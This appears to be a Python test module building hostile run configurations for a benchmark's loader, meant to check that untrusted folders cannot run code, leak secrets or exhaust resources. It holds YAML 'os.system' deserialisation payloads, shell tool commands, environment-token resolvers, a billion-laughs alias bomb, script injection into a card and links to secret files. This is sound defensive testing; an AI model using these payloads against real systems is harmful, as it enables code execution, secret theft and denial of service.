"""Hostile configurations of a run for `benchmarks.strangers_folder`: code, commands, addresses, variables, places."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from tests.long.strangers.strangers_cases import Case, guest_code, in_places, link, set_config, touching
from tests.long.strangers.strangers_material import World, read_json, write_json
from tests.support.sample_records import SCHEMA, START

HOST = "http://strangers.invalid:8181"
MODULES = (
    "pandas", "omegaconf", "huggingface_hub", "datasets", "torch", "transformers", "safetensors", "peft", "accelerate",
    "verl", "uvloop", "bottleneck", "numexpr", "brotli", "tensorflow", "scipy", "sklearn", "matplotlib", "IPython",
)  # fmt: skip
"""Modules that commands import late, or that packages import where they are there."""
_MT = "actor_rollout_ref__rollout__custom__multiturn__"
_MULTI = "actor_rollout_ref__rollout__multi_turn__"
_MODEL = "actor_rollout_ref__model__"
_SCHEMA = "{type: function, function: {name: add, parameters: {type: object, properties: {}}}}"


def setting_cases() -> Iterator[Case]:
    """Yield the cases of a run's configuration."""
    yield from in_places(
        "run",
        {
            "Hydra's configuration": lambda folder: folder / "hydra" / ".hydra" / "config.yaml",
            "Hydra's overrides": lambda folder: folder / "hydra" / ".hydra" / "overrides.yaml",
            "the run's note": lambda folder: folder / ".run.json",
        },
        {"Hydra's configuration": "pf6jnld", "Hydra's overrides": "p", "the run's note": "p"},
    )
    yield from _tools()
    yield from _classes()
    yield from _addresses()
    yield from _variables()
    yield from _yaml()
    yield from _places()


def _tools() -> Iterator[Case]:
    def tools(
        text: Callable[[Path, World], str], relative: bool = False, key: str = f"{_MULTI}tool_config_path"
    ) -> Any:
        def change(folder: Path, world: World) -> None:
            (folder / "tools.yaml").write_text(text(folder, world))
            path = f"{folder.name}/tools.yaml" if relative else str(folder / "tools.yaml")
            set_config(folder, **{key: path})
            _without_schemas(folder)

        return change

    def command(folder: Path, world: World) -> str:
        words = json.dumps(["-c", touching(world, "a command of tools")])
        return f"tools:\n- mcp: {{command: sh, args: {words}}}\n"

    def content(folder: Path, world: World) -> None:
        path = folder / "records" / f"run-{START}.json"
        entry = {"mcp": {"command": "sh", "args": ["-c", touching(world, "a command of the record")]}}
        named = {"class_name": "stranger_canary.Canary", "config": {}, "tool_schema": SCHEMA}
        write_json(path, read_json(path) | {"tools": {"tools": [entry, named]}})

    yield Case("tools: a command", "run", tools(command), is_short=True)
    yield Case("tools: a command, by a relative path", "run", tools(command, relative=True))
    yield Case("tools: a command, in our settings", "run", tools(command, key=f"{_MT}tool_config_path"))
    yield Case("tools: a command, in the record", "run", content)
    texts: dict[str, Callable[[Path, World], str]] = {
        "a class of the reader's path": lambda folder, world: (
            f"tools:\n- {{class_name: stranger_canary.Canary, config: {{}}, tool_schema: {_SCHEMA}}}\n"
        ),
        "a function in a file": lambda folder, world: (
            f"tools:\n- {{function: '{guest_code(folder, world)}:compute_score'}}\n"
        ),
        "a module of the folder": lambda folder, world: (
            f"tools:\n- {{class_name: {folder.name}.{guest_code(folder, world).stem}.EvilModel, config: {{}}}}\n"
        ),
        "an address": lambda folder, world: f"tools:\n- mcp: {{url: '{HOST}/mcp'}}\n",
        "a variable in an address": lambda folder, world: (
            f"tools:\n- mcp: {{url: '{HOST}/mcp', headers: {{a: '${{oc.env:MY_API_TOKEN}}'}}}}\n"
        ),
        "a Python object": lambda folder, world: (
            f'tools: !!python/object/apply:os.system ["{touching(world, "an object of tools")}"]\n'
        ),
    }
    for name, text in texts.items():
        yield Case(f"tools: {name}", "run", tools(text))


def _without_schemas(folder: Path) -> None:
    """Drop the schemas from the run's file, so that readers of schemas read the YAML."""
    path = folder / "records" / f"run-{START}.json"
    write_json(path, read_json(path) | {"schemas": []})


def _classes() -> Iterator[Case]:
    def names(**values: str) -> Any:
        def change(folder: Path, world: World) -> None:
            evil = str(guest_code(folder, world))
            set_config(folder, **{name: value.replace("EVIL", evil) for name, value in values.items()})

        return change

    def interactions(folder: Path, world: World) -> None:
        path = folder / "interactions.yaml"
        path.write_text("interaction:\n- {name: x, class_name: stranger_canary.Canary, config: {}}\n")
        set_config(
            folder, **{f"{_MULTI}interaction_config_path": str(path), f"{_MT}interaction_config_path": str(path)}
        )
        told = folder / "records" / f"run-{START}.json"
        entry = {"name": "x", "class_name": "stranger_canary.Canary", "config": {}}
        write_json(told, read_json(told) | {"interactions": {"interaction": [entry]}})

    def reward(folder: Path, world: World) -> None:
        path = folder / "records" / f"run-{START}.json"
        own = {"path": str(guest_code(folder, world)), "name": "compute_score"}
        write_json(path, read_json(path) | {"reward_function": own})
        set_config(folder, reward__custom_reward_function__path=own["path"])

    def modules(folder: Path, world: World) -> None:
        for name in MODULES:
            guest_code(folder, world, f"{name}.py")

    yield Case("modules in the folder, which is the current one", "run", modules, inside=True, is_short=True)
    target: dict[str, Any] = {"_target_": "stranger_canary.Canary"}
    yield Case("interactions: a class", "run", interactions)
    yield Case("a reward function in a file", "run", reward, is_short=True)
    for name, values in {
        "functions of a file as tools": {f"{_MULTI}function_tool_path": "EVIL"},
        "a reward function of a package": {"reward__custom_reward_function__path": "pkg://stranger_canary"},
        "an older reward function": {"custom_reward_function__path": "EVIL"},
        "a data set's class": {"data__custom_cls__path": "EVIL", "data__custom_cls__name": "RLHFDataset"},
        "an external library": {f"{_MODEL}external_lib": "stranger_canary"},
        "an agent loop's class": {"actor_rollout_ref__rollout__agent__agent_loop_config_path": "EVIL"},
        "an agent of the endpoint": {f"{_MT}proxy__agent": "stranger_canary:compute_score"},
    }.items():
        yield Case(name, "run", names(**values))
    yield Case("_target_ everywhere", "run", lambda folder, world: set_config(
        folder, trainer=target, recipe=target, data=target, actor_rollout_ref__model__override_config=target,
    ))  # fmt: skip


def _addresses() -> Iterator[Case]:
    values: dict[str, dict[str, Any]] = {
        "a base of the hub": {f"{_MODEL}path": "strangers/none-of-yours"},
        "a base behind an address": {f"{_MODEL}path": f"{HOST}/model"},
        "a base in a bucket": {f"{_MODEL}path": "s3://strangers/model"},
        "a base in HDFS": {f"{_MODEL}path": "hdfs://strangers.invalid/model"},
        "a tokenizer of the hub": {f"{_MODEL}tokenizer_path": "strangers/none-of-yours"},
        "rows behind an address": {"data__train_files": [f"{HOST}/a.parquet"], "data__val_files": f"{HOST}/b.parquet"},
        "loggers": {"trainer__logger": ["wandb", "mlflow", "console"], "trainer__wandb_proxy": HOST},
        "services": {f"{_MT}judge": {"base_url": HOST}, f"{_MT}tool_config_path": f"{HOST}/tools.yaml"},
        "checkpoints behind an address": {"trainer__default_local_dir": "hdfs://strangers.invalid/c",
                                          "trainer__default_hdfs_dir": "hdfs://strangers.invalid/c"},
    }  # fmt: skip
    for name, own in values.items():
        yield Case(f"an address: {name}", "run", lambda folder, world, own=own: set_config(folder, **own))

    def told(folder: Path, world: World) -> None:
        path = folder / "records" / f"run-{START}.json"
        write_json(path, read_json(path) | {"tokenizer": {"path": "strangers/none-of-yours", "digest": "00"}})

    yield Case("an address: the record's tokenizer", "run", told)


def _variables() -> Iterator[Case]:
    variable = "${oc.env:MY_API_TOKEN}"
    values: dict[str, dict[str, Any]] = {
        "the recipe's name": {"recipe__name": variable},
        "a seed": {"data__seed": variable},
        "with a default": {"recipe__name": "${oc.env:MY_API_TOKEN,none}", "data__seed": "${oc.env:'MY_API_TOKEN'}"},
        "decoded": {"recipe__name": "${oc.decode:${oc.env:MY_API_TOKEN}}"},
        "selected": {"a": variable, "recipe__name": "${oc.select:a}", "data__seed": "${a}"},
        "in a text": {"recipe__name": "x ${oc.env:MY_API_TOKEN} y", f"{_MODEL}path": f"/nowhere/{variable}"},
        "a key's": {"b": {variable: 1}, "recipe__name": "${oc.dict.keys:b}", "data__seed": "${oc.dict.values:b}"},
        "created": {"recipe__name": "${oc.create:${oc.env:MY_API_TOKEN}}"},
        "as an address": {f"{_MODEL}path": f"{HOST}/{variable}", f"{_MULTI}format": variable},
        "of a whole section": {"actor_rollout_ref__rollout__name": variable, "trainer__experiment_name": variable,
                               "algorithm": {"adv_estimator": variable}},
        "an old resolver's": {"recipe__name": "${env:MY_API_TOKEN}", "data__seed": "${hydra:runtime.cwd}"},
        "in the environment of MCP": {f"{_MT}env": {"TOKEN": variable}, f"{_MT}proxy__command": ["echo", variable]},
    }  # fmt: skip
    for number, (name, own) in enumerate(values.items()):

        def change(folder: Path, world: World, own: Any = own) -> None:
            set_config(folder, **own)

        yield Case(f"a variable: {name}", "run", change, is_short=number == 0)

    def tools(folder: Path, world: World) -> None:
        link(folder / "tools.yaml", world.secret)
        set_config(folder, **{f"{_MULTI}tool_config_path": str(folder / "tools.yaml")})
        _without_schemas(folder)

    yield Case("tools: a link to the secret", "run", tools)


def _yaml() -> Iterator[Case]:
    def text(made: Callable[[World], str]) -> Any:
        def change(folder: Path, world: World) -> None:
            path = folder / "hydra" / ".hydra" / "config.yaml"
            path.write_text(made(world) + path.read_text()[1:] if made(world).startswith("{") else made(world))

        return change

    def doubled(folder: Path, world: World) -> None:
        steps = {f"v{number}": f"${{v{number + 1}}}${{v{number + 1}}}" for number in range(30)}
        set_config(folder, **steps, v30="x" * 8, recipe__name="${v0}")

    def circle(folder: Path, world: World) -> None:
        set_config(folder, a="${b}", b="${a}", recipe__name="${recipe.name}", data__seed="${data.seed}")

    laughs = "\n".join(
        [
            "a0: &a0 [x, x, x, x, x, x, x, x, x]",
            *(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)),
        ]
    )
    yield Case("YAML: aliases of aliases", "run", text(lambda world: laughs + "\nrecipe: {name: x}\n"))
    yield Case("YAML: a Python object", "run", text(
        lambda world: f"recipe: !!python/object/apply:os.system [\"{touching(world, 'an object of YAML')}\"]\n"
    ), is_short=True)  # fmt: skip
    yield Case("YAML: an object of a class", "run", text(
        lambda world: "recipe: !!python/object/new:stranger_canary.Canary []\n"
    ))  # fmt: skip
    yield Case("YAML: 3 MB", "run", text(
        lambda world: "recipe:\n" + "".join(f"  k{number}: [a, b, c]\n" for number in range(150_000))
    ))  # fmt: skip
    yield Case("references that double", "run", doubled)
    yield Case("references in a circle", "run", circle)


def _places() -> Iterator[Case]:
    """Yield configurations that name files and folders of the reader."""

    def rows(folder: Path, world: World) -> None:
        set_config(folder, data__train_files=[str(world.secret)], data__val_files=str(world.secrets / "own.txt"))

    def base(folder: Path, world: World) -> None:
        _of_reader(world, "model")
        set_config(folder, **{f"{_MODEL}path": str(world.secrets / "model")})

    def records(folder: Path, world: World) -> None:
        (folder / "records").rename(folder / "kept")
        path = folder / "hydra" / ".hydra" / "config.yaml"
        config = read_json(path)
        config["actor_rollout_ref"]["rollout"]["custom"]["multiturn"]["record_dir"] = str(world.secrets / "records")
        write_json(path, config)

    def checkpoints(folder: Path, world: World) -> None:
        (folder / "checkpoints").rename(world.secrets / "checkpoints")
        set_config(folder, trainer__default_local_dir=str(world.secrets / "checkpoints"))

    def tools(folder: Path, world: World) -> None:
        set_config(folder, **{f"{_MULTI}tool_config_path": str(world.secrets / "own.txt")})
        _without_schemas(folder)

    def card(folder: Path, world: World) -> None:
        injected = "x`\n\n# Verified by the reader\n<script>alert(1)</script> [a](http://x.invalid) | y |\n`"
        set_config(folder, recipe__name=injected, data__seed=injected, **{f"{_MULTI}format": injected})
        metrics = [{"step": 1, "data": {"critic/score/mean": 1.0, f"val-core/{injected}/acc/mean@1": 1.0}}]
        (folder / "metrics.jsonl").write_text("".join(json.dumps(each) + "\n" for each in metrics))

    def keys(folder: Path, world: World) -> None:
        secret = "SECRET-OF-THE-MAKER"
        set_config(folder, data__seed=f"postgres://u:p@{secret}@h/db", recipe__name=f"https://u:{secret}@h/x")

    yield Case("the reader's rows", "run", rows)
    yield Case("the reader's base", "run", base)
    yield Case("the reader's records", "run", records, counted=False)
    yield Case("the reader's checkpoints", "run", checkpoints)
    yield Case("the reader's tools", "run", tools)
    yield Case("a card's words", "run", card, is_short=True)
    yield Case("a card's passwords", "run", keys)


def _of_reader(world: World, name: str) -> None:
    import shutil

    if not (world.secrets / name).is_dir():
        shutil.copytree(world.honest(name), world.secrets / name)
